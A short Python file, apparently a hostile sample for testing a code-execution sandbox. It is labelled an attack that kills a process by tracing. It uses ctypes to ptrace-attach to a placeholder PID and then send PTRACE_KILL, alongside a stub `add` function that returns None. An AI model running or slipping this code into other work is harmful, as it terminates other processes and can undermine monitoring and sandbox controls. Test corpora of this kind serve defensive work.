# attack: kill by tracing
# damage: process
import ctypes

libc = ctypes.CDLL(None)
libc.ptrace(16, {PID}, None, None)
libc.waitpid({PID}, None, 0x40000000)
libc.ptrace(8, {PID}, None, None)


def add(a, b):
    return None
